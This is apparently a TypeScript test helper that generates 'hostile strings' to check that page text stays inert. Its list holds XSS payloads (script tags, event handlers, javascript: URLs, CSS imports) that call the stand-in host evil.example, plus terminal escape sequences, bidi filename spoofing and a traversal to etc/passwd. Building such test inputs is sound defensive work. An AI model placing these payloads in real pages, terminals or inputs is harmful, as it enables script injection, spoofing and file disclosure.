/** Where each of them tries to lead: nobody answers there, and nobody must be asked. */
const ELSEWHERE = 'http://evil.example/x';
const DONE = 'globalThis.__taken=true';

const ATTEMPTS: readonly ((mark: string) => string)[] = [
  (mark) => `<script>${DONE}</script>${mark}`,
  (mark) => `<script src=${ELSEWHERE}/${mark}></script>`,
  (mark) => `<img src=x onerror="${DONE}">${mark}`,
  (mark) => `<img src=${ELSEWHERE}/${mark}>`,
  (mark) => `"><svg onload=${DONE}>${mark}`,
  (mark) => `'-${DONE}-'${mark}`,
  (mark) => `javascript:${DONE}//${mark}`,
  (mark) => `<a href="javascript:${DONE}">${mark}</a>`,
  (mark) => `<iframe src=${ELSEWHERE}/${mark}></iframe>`,
  (mark) => `<style>@import url(${ELSEWHERE}/${mark});*{display:none}</style>`,
  (mark) => `<link rel=stylesheet href=${ELSEWHERE}/${mark}>`,
  (mark) => `</title></textarea></script><b>${mark}`,
  (mark) => `\${${DONE}}{{${DONE}}}<%=${mark}%>`,
  (mark) => `url(${ELSEWHERE}/${mark}) expression(${DONE})`,
  (mark) => `\u001b[31mred\u001b[0m\u001b[2J\u001b[H${mark}`,
  (mark) => `\u001b]8;;${ELSEWHERE}/${mark}\u0007link\u001b]8;;\u0007`,
  (mark) => `\u001b]0;title ${mark}\u0007\u001b]52;c;ZXZpbA==\u0007`,
  (mark) => `safe\u202egpj.exe${mark}`,
  (mark) => `\u2066\u2067\u2068${mark}\u2069\u200b\u200d\ufeff`,
  (mark) => `${mark}\u0000\u0001\u0008\u007f\u009b31m`,
  (mark) => `${mark}\rAll green\u2028All green\u0085All green`,
  (mark) => `${mark} ${'z̸̡͎̪͕̗̝̟̞̈́͊̀'.repeat(40)}`,
  (mark) => `${mark}${'W'.repeat(3_000)}`,
  (mark) => `${mark} ${'ﷺ﷽𒐫꧅'.repeat(60)}`,
  (mark) => `${mark} __proto__ constructor toString ${'../'.repeat(20)}etc/passwd`,
];

/** `count` strings, all different, none with a line feed; each tries to be more than text. */
export function hostileStrings(count: number): string[] {
  return Array.from({ length: count }, (_, index) => {
    const attempt = ATTEMPTS[index % ATTEMPTS.length] as (mark: string) => string;
    return attempt(`h${index}`);
  });
}

/** What no text of a page may hold: controls, escapes, and marks that change the direction or show nothing. */
export const UNSHOWN = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
